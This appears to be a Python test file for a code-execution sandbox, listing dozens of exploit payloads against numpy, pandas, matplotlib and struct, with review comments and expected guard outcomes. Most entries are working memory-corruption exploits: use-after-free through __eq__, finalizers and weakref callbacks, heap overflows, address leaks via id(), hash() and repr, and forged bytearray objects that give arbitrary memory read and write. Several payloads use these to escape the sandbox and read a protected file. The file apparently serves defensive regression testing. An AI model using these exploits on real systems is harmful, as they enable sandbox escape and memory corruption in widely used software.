    Payload("numpy-dtype-dict-titles-defaultdict-renames-field", """
        import numpy as np
        import collections
        def main():
            names = ["a", "b"]
            n = [0]
            def cb():
                n[0] += 1
                if n[0] == 2:
                    names[0] = "b"
                return None
            titles = collections.defaultdict(cb, x=None, y=None)
            dt = np.dtype({"names": names, "formats": ["O", "i8"], "offsets": [0, 0],
                           "titles": titles})
            a = np.zeros(1, dt)
            a["a"][0] = str
            return [str(dt.names), str(list(dt.fields)), hex(int(a["b"][0]))]
        """, on={GUARD, EXCEPTION}, off={CRASH, EXCEPTION, GUARD, OK}),
    # review 177: a field view (arr[names]) checks the list's items are
    # str, then reads the list again: a list subclass answered with an
    # object hashing as "a" that was "equal" once and then "not equal", and
    # the view held object field a twice, over one pointer (an array of its
    # dtype dropped an object's reference twice: a freed object reused)
    field_view_payload("numpy-field-view-list-reread-duplicates-object-field", """
            v = a[L(["a", "b"])]
            z = np.empty(1, v.dtype)
            keep = [T(1)]
            z["a"][0] = keep[0]
            del z
            fresh = [T(1000 + i) for i in range(64)]
            return [f.k for f in fresh if f is keep[0]]"""),
    # (the assignment form builds the same view: numpy raised its own
    # TypeError there, after the view; the guard stops it first)
    field_view_payload("numpy-field-view-assignment-list-reread", """
            a[L(["a", "b"])] = (str, int)
            return repr(a)"""),
    Payload("pandas-period-strftime-year-past-int32", """
        import pandas as pd
        def main():
            p = pd.Period(ordinal=2**31, freq="A")
            return p.strftime("x" * 3000 + "%Y" * 9)[-40:]
        """, off={OK, CRASH, EXCEPTION}),
    Payload("pandas-period-strftime-century-past-int32", """
        import pandas as pd
        def main():
            s = pd.Series(pd.period_range(pd.Period(ordinal=2**31, freq="A"), periods=3, freq="A"))
            return list(s.dt.strftime("x" * 3000 + "%C" * 16))[0][-40:]
        """, off={OK, CRASH, EXCEPTION}),
    # agg sizes its filter table in 32 bits: filterrad=2**24+1 wrapped
    Payload("matplotlib-filterrad-wraps-agg-table", """
        import numpy as np
        import matplotlib.pyplot as plt
        def main():
            fig, ax = plt.subplots(figsize=(1, 1), dpi=20)
            ax.imshow(np.random.rand(8, 8), interpolation="lanczos", filterrad=2**24 + 1)
            fig.canvas.draw()
            return 1
        """, off={CRASH}),
    # review 92: matplotlib's native code fed data it trusts.  A triangle
    # with a repeated point made _tri's calculate_boundaries() erase end()
    # of a std::set (a free() of a stack address); constrained layout gave
    # kiwisolver ratios it cannot solve, whose C++ exception aborted; an
    # image of no pixels composited into a PDF divided by its width (SIGFPE)
    Payload("tricontour-triangle-repeats-a-point", """
        import numpy as np
        import matplotlib.pyplot as plt
        import matplotlib.tri as mtri
        def main():
            x = np.array([0.0, 1.0, 0.0, 1.0, 0.5])
            y = np.array([0.0, 0.0, 1.0, 1.0, 0.5])
            t = mtri.Triangulation(x, y, [[0, 1, 4], [1, 3, 4], [3, 2, 4], [2, 4, 2]])
            fig, ax = plt.subplots()
            ax.tricontour(t, x + y, levels=3)
            return 1
        """, on={EXCEPTION}, off={CRASH, TIMEOUT, CPU, EXCEPTION, OK},
            options={"timeout_ms": 3000, "cpu_ms": 2000}),
    Payload("constrained-layout-ratios-abort-kiwisolver", """
        import matplotlib.pyplot as plt
        def main():
            fig, axs = plt.subplots(2, 1, layout="constrained", height_ratios=[1e-12, 1e300])
            return fig
        """, on={OK}, off={CRASH}),
    Payload("image-of-no-pixels-composited-into-pdf", """
        import io
        import numpy as np
        import matplotlib.pyplot as plt
        from matplotlib.image import NonUniformImage
        def main():
            fig, ax = plt.subplots(figsize=(2, 2), dpi=10)
            im = NonUniformImage(ax, interpolation="bilinear")
            im.set_data(np.array([1e-300, 1e-300]), np.array([-1.0, -1.0, -1.0]), np.zeros((3, 2)))
            ax.add_image(im)
            ax.imshow(np.zeros((2, 2)))
            ax.set_xlim(1e15, -1)
            buf = io.BytesIO()
            fig.savefig(buf, format="pdf")
            return len(buf.getvalue()) > 0
        """, on={OK}, off={CRASH}),
    # review 92 F4: a line as wide as inf pixels made agg's rasterizer split
    # a segment without end until the native stack ran out; refused before
    # drawing, the code sees a ValueError it can catch
    Payload("line-width-of-inf-pixels-recurses-in-agg", """
        import io
        import matplotlib.pyplot as plt
        def main():
            fig, ax = plt.subplots()
            ax.plot([0, 1], [0, 1], lw=float("inf"))
            try:
                fig.savefig(io.BytesIO(), format="png")
            except ValueError as e:
                return str(e)
            return "drawn"
        """, on={OK}, off={EXCEPTION, CRASH}),
    # review 88: a Struct whose __init__ skipped the base's: pack_into read
    # past its arguments and wrote (size_t) -1 bytes
    Payload("struct-subclass-skips-base-init", """
        import struct
        class S(struct.Struct):
            def __init__(self):
                pass
        def main():
            return S().pack_into(bytearray(64))
        """, off={CRASH, EXCEPTION}),
    # review 88: what still gave a real address after id() was masked: an
    # array of objects' bytes (tobytes, bytes(), bytearray(), int.from_bytes),
    # the markers dict of json's C encoder, pprint's context dict, and
    # reprs numpy and hashlib format themselves
    Payload("addresses-through-library-channels", """
        import json
        import hashlib
        import pprint
        import numpy as np
        import json.encoder as enc
        def main():
            leaked = []
            box = [object()]
            a = np.array(box, dtype=object)
            for name, read in [("tobytes", lambda: a.tobytes()), ("bytes", lambda: bytes(a)),
                               ("bytearray", lambda: bytearray(a)),
                               ("from_bytes", lambda: int.from_bytes(a, "little"))]:
                try:
                    got = read()
                except (TypeError, BufferError, ValueError):
                    continue
                leaked.append(name)
            markers = {}
            seen = []
            def default(o):
                seen.extend(markers)
                return None
            encode = enc.c_make_encoder(markers, default, json.dumps, None, ":", ",",
                                        False, False, True)
            outer = [[object()]]
            list(encode(outer, 0))
            if any(k != id(outer) and k != id(outer[0]) for k in seen):
                leaked.append("json markers")
            class P(pprint.PrettyPrinter):
                def format(self, obj, context, maxlevels, level):
                    if any(k != id(outer) and k != id(outer[0]) for k in context):
                        leaked.append("pprint context")
                    return super().format(obj, context, maxlevels, level)
            P().pformat(outer)
            for obj in (np.random.default_rng(), np.random.RandomState(0), hashlib.sha256()):
                shown = int(repr(obj).replace("@", "at").rsplit("at 0x", 1)[1].strip(">"), 16)
                if shown != id(obj):
                    leaked.append(type(obj).__name__ + " repr")
            if leaked:
                raise RuntimeError("addresses leaked through: %s" % ", ".join(leaked))
            return "held"
        """, on={OK}, off={EXCEPTION}),
    # every memory exploit of the Python layer (reviews 73, 76, 78, 82)
    # placed a forged object at id(b) + 32 and found the types it imitated
    # by id() or hash(); reprs print addresses too.  Consecutive small
    # objects lie 16 bytes apart: seen through id(), hash() (the address
    # rotated) or a repr's "at 0x...", the steps are small.  Masked, they
    # are not (src/worker/sb_addrguard.c); the layer off gives the real
    # id() (the reprs stay masked).
    Payload("addresses-of-objects-from-id-hash-repr", """
        import pandas as pd
        def main():
            objs = [object() for _ in range(300)]
            functions = [lambda: i for i in range(300)]
            lists = [[] for _ in range(300)]
            def steps(numbers):
                return sum(1 for a, b in zip(numbers, numbers[1:]) if abs(a - b) < 1 << 20)
            def shown(text):
                return int(text.rsplit("at 0x", 1)[1].split(">")[0].split(",")[0], 16)
            seen = {
                "id": steps([id(o) for o in objs]),
                "hash": steps([hash(o) for o in objs]),
                "repr": steps([shown(repr(o)) for o in objs]),
                "f-string": steps([shown(f"{o!r}") for o in objs]),
                "functions": steps([shown(repr(f)) for f in functions]),
                "methods": steps([shown(repr(x.append)) for x in lists]),
                "series": steps([shown(str(pd.Series([o]).iloc[0])) for o in objs]),
            }
            leaked = {k: v for k, v in seen.items() if v > 30}
            if leaked:
                raise RuntimeError("addresses leaked: %r" % leaked)
            if any(shown(repr(o)) != id(o) for o in objs):
                raise RuntimeError("a repr shows another number than id()")
            return [hash(1), hash(2.5) == hash(5 / 2), hash("a") == hash("a")]
        """, on={OK}, off={EXCEPTION}),
    Payload("pandas-json-dict-key-str-frees-value", """
        import struct
        import pandas as pd
        keep = []
        got = []
        fake = []
        class K:
            def __init__(self, d):
                self.d = d
            def __hash__(self):
                return 1
            def __eq__(self, o):
                return self is o
            def __str__(self):
                self.d.clear()
                # the freed value's block is reused by one of these, wherever
                # its pool stands among the size class's pools
                keep.extend(bytearray(fake[0]) for _ in range(2000))
                return "k"
        def handler(o):
            got.append(o)
            return "h"
        def main():
            f = struct.pack("<qQqqqqq", 2**40, id(bytearray), 2**62, 2**62 + 1, 0, 0, 0)
            fake.append(f + b"\\0" * (95 - len(f)))
            d = {}
            d[K(d)] = "x" * 38 + str(len(keep) + 10)
            s = pd.Series([d]).to_json(default_handler=handler)
            for o in got:
                if type(o) is bytearray and len(o) > 2**40:
                    o[0] = 1                # a write anywhere: address 0
            return s
        """, on={OK}, off={CRASH}),
    # review rev21: the encoder walks a list by borrowed items up to the
    # length it had when it began; a default_handler that empties the list
    # made it read the freed (NULL) item array
    Payload("pandas-json-list-shrunk-by-default-handler", """
        import pandas as pd
        class X:
            pass
        held = []
        def handler(o):
            held[0].clear()
            return "h"
        def main():
            held.append([X()] + ["y" * 40 + str(i) for i in range(8)])
            return pd.io.json.dumps(held[0], default_handler=handler)
        """, on={OK}, off={CRASH}),
    Payload("pandas-json-hashable-list-series-name", """
        import pandas as pd
        class X:
            pass
        class HL(list):
            def __hash__(self):
                return 1
        held = []
        def handler(o):
            held[0].clear()
            return "h"
        def main():
            held.append(HL([X()] + ["y" * 40 + str(i) for i in range(8)]))
            s = pd.Series([1, 2], name=held[0])
            return s.to_json(orient="split", default_handler=handler)
        """, on={OK}, off={CRASH}),
    # review rev21: merge_asof(by=) of objects set_item()s the right frame's
    # keys into a PyObjectHashTable borrowed from its own column; a key's
    # __eq__ that empties that column freed the table's keys (SIGSEGV)
    Payload("pandas-merge-asof-by-object-keys-freed", """
        import pandas as pd
        state = {"view": None}
        junk = []
        class H:
            def __hash__(self):
                return 7
            def __eq__(self, other):
                v = state["view"]
                if v is not None:
                    state["view"] = None
                    for i in range(len(v)):
                        v[i] = None
                    for i in range(2000):
                        junk.append(bytearray(b"A" * 31))
                return False
            def __lt__(self, other):
                return False
        def main():
            left = pd.DataFrame({"t": [10], "k": [H()]})
            right = pd.DataFrame({"t": [1, 2, 3, 4, 5], "k": [H(), H(), H(), H(), H()]})
            state["view"] = right["k"].values
            return pd.merge_asof(left, right, on="t", by="k").shape[0]
        """, on={OK}, off={CRASH, EXCEPTION}),   # (the freed objects' bytes decide where
                                                   # it faults: now and then within 64 kB
                                                   # of the stack pointer, which sb_where.c
                                                   # reports as the stack's end)
    # review 145 F1: merge's join of object keys runs the keys' __eq__,
    # which emptied the frame being joined: the join's positions then lay
    # past its end (layer off: SIGSEGV in the take); the take's bounds
    # check is what stops it with the layer on
    Payload("pandas-merge-object-key-eq-empties-frame", """
        import pandas as pd

        class V:
            def __init__(self, v):
                self.v = v
                self.df = None
            def __eq__(self, o):
                if self.df is not None and len(self.df):
                    self.df.drop(self.df.index, inplace=True)
                return True
            def __hash__(self):
                return 7

        def main():
            items = [V(i) for i in range(6)]
            df = pd.DataFrame({"a": pd.Series(items, dtype=object), "g": [1, 2, 1, 2, 1, 2]})
            for it in items:
                it.df = df
            r = df.merge(df.copy(), on="a")
            return list(r.shape)
        """, on={GUARD}, off={CRASH, EXCEPTION, OK}),
    # review rev21: a BlockIndex's blengths is a public writable array; the
    # sparse binary ops (boundscheck off) walk the values by its current
    # lengths: 300 values read from an array of 2 (heap pointers as floats)
    Payload("pandas-sparse-blengths-heap-read", """
        import numpy as np
        import pandas as pd
        def main():
            a = np.zeros(1000)
            a[10] = 1.5
            a[500] = 2.5
            x = pd.arrays.SparseArray(a, kind="block", fill_value=0.0)
            y = pd.arrays.SparseArray(a, kind="block", fill_value=0.0)
            x.sp_index.blengths[0] = 300
            z = x + y
            words = np.asarray(z.sp_values).view("u8")
            return [hex(int(u)) for u in words if 0x550000000000 <= int(u) < 0x800000000000]
        """, on={GUARD}, off={OK, CRASH}),
    # review rev21: libjoin's left/inner/outer join indexers count matches
    # in one pass and write those of a second pass (boundscheck off); the
    # code's __eq__ answering the second pass otherwise wrote 600 positions
    # and object pointers into arrays of 0 (heap overflow, SIGSEGV)
    Payload("pandas-join-indexer-two-pass-overflow", """
        import pandas as pd
        st = {"n": 0, "limit": -1}
        class K:
            def __init__(self, k):
                self.k = k
            def __hash__(self):
                return hash(self.k)
            def __lt__(self, o):
                return self.k < o.k
            def __gt__(self, o):
                return self.k > o.k
            def __le__(self, o):
                return self.k <= o.k
            def __ge__(self, o):
                return self.k >= o.k
            def __eq__(self, o):
                st["n"] += 1
                if st["limit"] < 0:
                    return False
                return st["n"] > st["limit"]
            def __ne__(self, o):
                return not (self == o)
        def run(n):
            a = pd.Index([K(i) for i in range(n)], dtype=object)
            b = pd.Index([K(i) for i in range(n)], dtype=object)
            st["n"] = 0
            return a.join(b, how="inner", return_indexers=True)
        def main():
            st["limit"] = -1
            run(300)
            st["limit"] = st["n"] // 2      # False in the counting pass, True in the writing one
            return len(run(300)[0])
        """, on={OK}, off={CRASH}),

    # review 22 (2026-12-04): numpy's stores into arrays of objects
    # a[i] = x (numpy's OBJECT_setitem: Py_XDECREF(old), then store)
    Payload("numpy-object-setitem-frees-before-store", """
        import json
        import numpy as np

        def main(canary_data):
            real = json
            if type(json).__name__ != "module":
                keep = []
                a = np.empty(3, dtype=object)
                src = np.array([1, 2, 3], dtype=object)
                q = lambda v: v.to_bytes(8, "little")
                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
                head = q(id(fake) + 32) * 4
                def dying():
                    try:
                        yield 1
                    finally:
                        keep.append(a[0])
                victim = dying()
                next(victim)
                a[0] = [victim]
                victim = None
                a[0] = None
                fresh = [q, q, q, q, q, q, q, q]
                fresh = None
                filler = head[:31]
                keep.append(keep[0])
                keep.append(keep[0])
                mem = keep[0][4]
                module = w(mem, id(json) + 32)
                mem[module:module + 8] = q(w(mem, module) + 100)
                items = w(mem, id(keep) + 24)
                mem[items + 8:items + 16] = q(module)
                real = keep[1]
                mem[id(keep) + 16:id(keep) + 24] = q(0)
            return real.codecs.open(canary_data).read()
        """, on={GUARD, EXCEPTION}, off={DENIED}),

    # a.itemset(i, x) (OBJECT_setitem)
    Payload("numpy-object-itemset-frees-before-store", """
        import json
        import numpy as np

        def main(canary_data):
            real = json
            if type(json).__name__ != "module":
                keep = []
                a = np.empty(3, dtype=object)
                src = np.array([1, 2, 3], dtype=object)
                q = lambda v: v.to_bytes(8, "little")
                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
                head = q(id(fake) + 32) * 4
                def dying():
                    try:
                        yield 1
                    finally:
                        keep.append(a[0])
                victim = dying()
                next(victim)
                a[0] = [victim]
                victim = None
                a.itemset(0, None)
                fresh = [q, q, q, q, q, q, q, q]
                fresh = None
                filler = head[:31]
                keep.append(keep[0])
                keep.append(keep[0])
                mem = keep[0][4]
                module = w(mem, id(json) + 32)
                mem[module:module + 8] = q(w(mem, module) + 100)
                items = w(mem, id(keep) + 24)
                mem[items + 8:items + 16] = q(module)
                real = keep[1]
                mem[id(keep) + 16:id(keep) + 24] = q(0)
            return real.codecs.open(canary_data).read()
        """, on={GUARD, EXCEPTION}, off={DENIED}),

    # an object ufunc's out= (its loop: Py_XDECREF(*out); *out = result)
    Payload("numpy-object-ufunc-out-frees-before-store", """
        import json
        import numpy as np

        def main(canary_data):
            real = json
            if type(json).__name__ != "module":
                keep = []
                a = np.empty(3, dtype=object)
                src = np.array([1, 2, 3], dtype=object)
                q = lambda v: v.to_bytes(8, "little")
                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
                head = q(id(fake) + 32) * 4
                def dying():
                    try:
                        yield 1
                    finally:
                        keep.append(a[0])
                victim = dying()
                next(victim)
                a[0] = [victim]
                victim = None
                np.add(src, 1, out=a)
                fresh = [q, q, q, q, q, q, q, q]
                fresh = None
                filler = head[:31]
                keep.append(keep[0])
                keep.append(keep[0])
                mem = keep[0][4]
                module = w(mem, id(json) + 32)
                mem[module:module + 8] = q(w(mem, module) + 100)
                items = w(mem, id(keep) + 24)
                mem[items + 8:items + 16] = q(module)
                real = keep[1]
                mem[id(keep) + 16:id(keep) + 24] = q(0)
            return real.codecs.open(canary_data).read()
        """, on={GUARD, EXCEPTION}, off={DENIED}),

    # a[i] = x; the code's Python run by IOBase's finalizer (close() of a StringIO subclass)
    Payload("numpy-object-setitem-io-close-finalizer", """
        import json
        import numpy as np
        import io

        def main(canary_data):
            real = json
            if type(json).__name__ != "module":
                keep = []
                a = np.empty(3, dtype=object)
                src = np.array([1, 2, 3], dtype=object)
                q = lambda v: v.to_bytes(8, "little")
                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
                head = q(id(fake) + 32) * 4
                class Closer(io.StringIO):
                    def close(self):
                        keep.append(a[0])
                victim = Closer()
                a[0] = [victim]
                victim = None
                a[0] = None
                fresh = [q, q, q, q, q, q, q, q]
                fresh = None
                filler = head[:31]
                keep.append(keep[0])
                keep.append(keep[0])
                mem = keep[0][4]
                module = w(mem, id(json) + 32)
                mem[module:module + 8] = q(w(mem, module) + 100)
                items = w(mem, id(keep) + 24)
                mem[items + 8:items + 16] = q(module)
                real = keep[1]
                mem[id(keep) + 16:id(keep) + 24] = q(0)
            return real.codecs.open(canary_data).read()
        """, on={GUARD, EXCEPTION}, off={DENIED}),

    # a.put(i, x) (PyArray_PutTo: Item_XDECREF, then memmove)
    Payload("numpy-object-put-frees-before-store", """
        import json
        import numpy as np

        def main(canary_data):
            real = json
            if type(json).__name__ != "module":
                keep = []
                a = np.empty(3, dtype=object)
                src = np.array([1, 2, 3], dtype=object)
                q = lambda v: v.to_bytes(8, "little")
                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
                head = q(id(fake) + 32) * 4
                def dying():
                    try:
                        yield 1
                    finally:
                        keep.append(a[0])
                victim = dying()
                next(victim)
                a[0] = [victim]
                victim = None
                a.put(0, None)
                fresh = [q, q, q, q, q, q, q, q]
                fresh = None
                filler = head[:31]
                keep.append(keep[0])
                keep.append(keep[0])
                mem = keep[0][4]
                module = w(mem, id(json) + 32)
                mem[module:module + 8] = q(w(mem, module) + 100)
                items = w(mem, id(keep) + 24)
                mem[items + 8:items + 16] = q(module)
                real = keep[1]
                mem[id(keep) + 16:id(keep) + 24] = q(0)
            return real.codecs.open(canary_data).read()
        """, on={GUARD, EXCEPTION}, off={DENIED}),

    # review 131 F1: a weakref's callback runs as its referent dies, with no
    # generator or finalizer: weakref.KeyedRef and weakref.ref are type() of
    # what matplotlib's weak dictionaries hold.  np.putmask drops a[0]
    # before it stores; the callback kept a[0], freed then and reused by the
    # next list.  A callback of the code's does not run as an object dies.
    Payload("numpy-putmask-weakref-callback-keeps-freed", """
        import numpy as np
        import matplotlib.path as mp

        def main():
            class O:
                pass
            d = mp.WeakValueDictionary()
            probe = O()
            d["k"] = probe
            KeyedRef = type(d.valuerefs()[0])
            keep = []
            a = np.empty(3, dtype=object)
            victim = O()
            ref = KeyedRef(victim, lambda r: keep.append(a[0]), "k")
            a[0] = [victim]
            victim = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if any(keep and x is keep[0] for x in spray):
                raise ValueError("the callback kept a list that was then freed")
            return len(keep)
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    # the same with weakref.ref itself and a cast into object (copyto of
    # ints: move_references drops a[0] first); reading the dying list's
    # type there crashed the child
    Payload("numpy-copyto-weakref-callback-reads-dying", """
        import numpy as np
        import matplotlib.backend_bases as bb

        def main():
            class O:
                pass
            probe = O()
            d = bb.WeakKeyDictionary()
            d[probe] = 1
            Ref = type(d.keyrefs()[0])
            seen = []
            a = np.empty(3, dtype=object)
            victim = O()
            a[0] = [victim]
            ref = Ref(victim, lambda r: seen.append(type(a[0]).__name__))
            victim = None
            np.copyto(a, np.array([1, 2, 3]))
            if seen:
                raise ValueError("the callback read a[0] as it died: %r" % seen[:3])
            k = O()
            d[k] = 2
            k = None
            return len(d)
        """, on={OK}, off={OK, EXCEPTION, CRASH}),

    # review 133 F2: a callback made of a builtin and a library function
    # (no frame of the code's) copied the dying list out as it died
    Payload("numpy-putmask-partial-copyto-callback-keeps-freed", """
        import functools
        import numpy as np
        import matplotlib.path as mp

        def main():
            class O:
                pass
            d = mp.WeakValueDictionary()
            probe = O()
            d["k"] = probe
            KeyedRef = type(d.valuerefs()[0])
            keep = np.empty(1, dtype=object)
            a = np.empty(3, dtype=object)
            victim = O()
            a[0] = [victim]
            ref = KeyedRef(victim, functools.partial(np.copyto, keep, a[:1], "unsafe"), "k")
            victim = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if any(x is keep[0] for x in spray):
                raise ValueError("the callback kept a list that was then freed")
            return repr(keep[0])[:40]
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    # review 133 F1: the refused callback's report printed its repr, the
    # code's __repr__, as the object died
    Payload("numpy-putmask-callback-repr-keeps-freed", """
        import numpy as np
        import matplotlib.path as mp

        def main():
            class O:
                pass
            d = mp.WeakValueDictionary()
            probe = O()
            d["k"] = probe
            KeyedRef = type(d.valuerefs()[0])
            keep = []
            a = np.empty(3, dtype=object)
            class CB:
                def __call__(self, r):
                    return None
                def __repr__(self):
                    keep.append(a[0])
                    return "cb"
            victim = O()
            a[0] = [victim]
            ref = KeyedRef(victim, CB(), "k")
            victim = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if keep and (keep[0] is spray or any(x is keep[0] for x in spray)):
                raise ValueError("the __repr__ kept a list that was then freed")
            return len(keep)
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    # review 133 F3: a library class's __del__ (numpy's NpzFile) called the
    # code's close() as the object died
    Payload("numpy-putmask-npzfile-del-keeps-freed", """
        import io
        import numpy as np

        def main():
            keep = []
            a = np.empty(3, dtype=object)
            class F:
                def __init__(self):
                    self.b = io.BytesIO(b"PK\\x05\\x06" + bytes(18))
                def read(self, n=-1):
                    return self.b.read(n)
                def seek(self, *args):
                    return self.b.seek(*args)
                def tell(self):
                    return self.b.tell()
                def close(self):
                    keep.append(a[0])
            nz = np.lib.npyio.NpzFile(F(), own_fid=True)
            a[0] = [nz]
            nz = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if keep and (keep[0] is spray or any(x is keep[0] for x in spray)):
                raise ValueError("close() kept a list that was then freed")
            return len(keep)
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    # review 133 F4: a class made by make_dataclass on io.BytesIO found
    # io's finalizer again, which called the code's close()
    Payload("numpy-copyto-make-dataclass-io-close-keeps-freed", """
        import dataclasses
        import io
        import numpy as np

        def main():
            keep = []
            a = np.empty(3, dtype=object)
            def close(self):
                keep.append(a[0])
            F = dataclasses.make_dataclass("F", [], bases=(io.BytesIO,),
                                           namespace={"close": close})
            a[0] = [F()]
            np.copyto(a, np.array([1, 2, 3]))
            spray = [[i, "new"] for i in range(50)]
            if keep and (keep[0] is spray or any(x is keep[0] for x in spray)):
                raise ValueError("close() kept a list that was then freed")
            return len(keep)
        """, on={OK}, off={OK, EXCEPTION, CRASH}),

    # review 135 F1: the code's object in warnings.filters had its match()
    # run by CPython's warnings code, here for the RuntimeWarning an nditer
    # raises as it dies inside np.putmask (the code now reads a tuple)
    Payload("numpy-putmask-warning-filter-match-keeps-freed", """
        import warnings
        import numpy as np

        def main():
            keep = []
            a = np.empty(3, dtype=object)
            class M:
                def match(self, text):
                    keep.append(a[0])
                    return True
            warnings.filters.insert(0, ("ignore", M(), Warning, None, 0))
            b = np.zeros(4, dtype=bool)
            it = np.nditer(b, flags=["refs_ok"], op_flags=[["readwrite", "updateifcopy"]],
                           op_dtypes=[object], casting="unsafe")
            a[0] = [it]
            it = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            # returned, not raised: the live list refused is the exception
            if keep and (keep[0] is spray or any(x is keep[0] for x in spray)):
                return "match() kept a list that was then freed"
            return len(keep)
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),

    # review 137 F1: matplotlib's id()-keyed callback runs at once as its
    # object dies; set_children given a child of the code's whose
    # _parents.pop was functools.partial(np.copyto, ...) read the dying list
    Payload("numpy-putmask-transform-callback-pop-keeps-freed", """
        import functools
        import numpy as np
        import matplotlib.transforms as mt

        class O:
            pass
        class Parents:
            def __init__(self, pop):
                self.pop = pop
                self.store = {}
            def __setitem__(self, k, v):
                self.store[k] = v
        class Child:
            pass

        def main():
            keep = np.empty(1, dtype=object)
            a = np.empty(3, dtype=object)
            child = Child()
            vars(child)["_parents"] = Parents(functools.partial(np.copyto, keep, a[:1], "unsafe"))
            victim = O()
            mt.TransformNode.set_children(victim, child)
            a[0] = [victim]
            victim = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if any(keep[0] is x for x in spray):
                raise ValueError("the callback kept a list that was then freed")
            return repr(keep[0])[:20]
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    # review 137 F2: the callback's wrapping wrote into the caller's own
    # tuple (a slice of a whole tuple is the tuple): a dtype's field names
    # lost one, and reading a record crashed
    Payload("weakref-args-tuple-written-dtype-names", """
        import numpy as np
        import matplotlib.backend_bases as bb
        class A:
            pass
        def main():
            probe = A()
            d = bb.WeakKeyDictionary()
            d[probe] = 1
            Ref = type(d.keyrefs()[0])
            dt = np.dtype([("a", "i8"), ("b", "f8")])
            arr = np.zeros(3, dtype=dt)
            try:
                Ref(*dt.names)
            except TypeError:
                pass
            return [list(dt.names), repr(arr[0].item())]
        """, on={OK}, off={OK, CRASH}),
    # review 138 F1: matplotlib's parent callback (run at once) pops an id()
    # from a dict that held a key of the code's with the same hash: pop()
    # compared it, and its __eq__ was a library function made by a
    # decorator (UserList.append: self.data.append(other), a partial of
    # np.copyto keeping the list putmask was freeing)
    Payload("numpy-putmask-parent-key-eq-library-function-keeps-freed", """
        import collections
        import functools
        import numpy as np
        import matplotlib.transforms as mt

        class O:
            pass
        class Child:
            pass
        class Holder:
            pass

        def main():
            keep = np.empty(1, dtype=object)
            a = np.empty(3, dtype=object)
            victim = O()
            probe = Child()
            vars(probe)["_parents"] = {}
            mt.TransformNode.set_children(victim, probe)
            h = list(vars(probe)["_parents"])[0]
            class K:
                @(lambda f: collections.UserList.append)
                def __eq__(self, other):
                    return False
                def __hash__(self):
                    return h
            holder = Holder()
            holder.append = functools.partial(np.copyto, keep, a[:1], "unsafe")
            kk = K()
            kk.data = holder
            child = Child()
            vars(child)["_parents"] = {kk: 0}
            mt.TransformNode.set_children(victim, child)
            a[0] = [victim]
            victim = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if any(keep[0] is x for x in spray):
                raise ValueError("the callback kept a list that was then freed")
            return repr(keep[0])[:40]
        """, on={GUARD}, off={OK, EXCEPTION, CRASH}),
    # ... and an __eq__ (Mapping.get: self[key]) whose subscript CPython 3.11
    # runs inline, the code's __getitem__ past the frame check
    Payload("numpy-putmask-parent-key-eq-inline-getitem-keeps-freed", """
        import collections.abc
        import numpy as np
        import matplotlib.transforms as mt
        class O:
            pass
        class Child:
            pass
        def main():
            keep = []
            a = np.empty(3, dtype=object)
            armed = [False]
            victim = O()
            probe = Child()
            vars(probe)["_parents"] = {}
            mt.TransformNode.set_children(victim, probe)
            h = list(vars(probe)["_parents"])[0]
            class K:
                @(lambda f: collections.abc.Mapping.get)
                def __eq__(self, other):
                    return False
                def __hash__(self):
                    return h
                def __getitem__(self, i):
                    if armed[0]:
                        keep.append(a[0])
                    return None
            kk = K()
            for i in range(100):
                kk == i
            child = Child()
            vars(child)["_parents"] = {kk: 0}
            mt.TransformNode.set_children(victim, child)
            armed[0] = True
            a[0] = [victim]
            victim = None
            np.putmask(a, np.array([True, False, False]), [7])
            armed[0] = False
            spray = [[i, "new"] for i in range(50)]
            if keep and (keep[0] is spray or any(x is keep[0] for x in spray)):
                raise ValueError("the code's __getitem__ kept a list that was then freed")
            return len(keep)
        """, on={GUARD}, off={OK, EXCEPTION, CRASH}),
    # review 138 F2: an nditer with updateifcopy that dies unclosed writes
    # its object copy back, casting with the code's __bool__ (or __str__),
    # inside putmask's store of the object that held it
    Payload("numpy-putmask-nditer-writeback-bool-keeps-freed", """
        import numpy as np

        def main():
            keep = []
            a = np.empty(3, dtype=object)
            class B:
                def __bool__(self):
                    keep.append(a[0])
                    return True
            b = np.zeros(4, dtype=bool)
            it = np.nditer(b, flags=["refs_ok"], op_flags=[["readwrite", "updateifcopy"]],
                           op_dtypes=[object], casting="unsafe")
            it.operands[0][0] = B()
            a[0] = [it]
            it = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if keep and (keep[0] is spray or any(x is keep[0] for x in spray)):
                raise ValueError("__bool__ kept a list that was then freed")
            return len(keep)
        """, on={GUARD}, off={OK, EXCEPTION, CRASH}),
    # review 140 F1: numpy reads flags and op before op_flags, and a list
    # subclass's __getitem__ there added "updateifcopy" to the op_flags list
    # the check had read
    Payload("numpy-putmask-nditer-flags-getitem-adds-writeback-keeps-freed", """
        import numpy as np

        class Flags(list):
            def __getitem__(self, i):
                self.target[0].append("updateifcopy")
                return "refs_ok"

